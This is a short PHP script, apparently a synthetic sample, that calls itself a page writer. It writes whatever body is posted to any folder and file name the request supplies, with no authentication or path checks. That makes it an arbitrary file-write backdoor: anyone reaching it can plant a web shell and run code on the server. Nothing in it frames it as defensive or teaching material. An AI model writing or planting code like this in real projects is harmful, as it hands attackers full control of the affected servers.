<?php
// synthetic: writes a page whose folder, name and body are posted
$dir = $_REQUEST['path'];
$name = $_REQUEST['filename'];
$body = stripslashes($_REQUEST['body']);
@mkdir($dir, 0755, true);
$h = fopen($dir . '/' . $name, 'w');
fwrite($h, $body);
fclose($h);
echo 'ok';
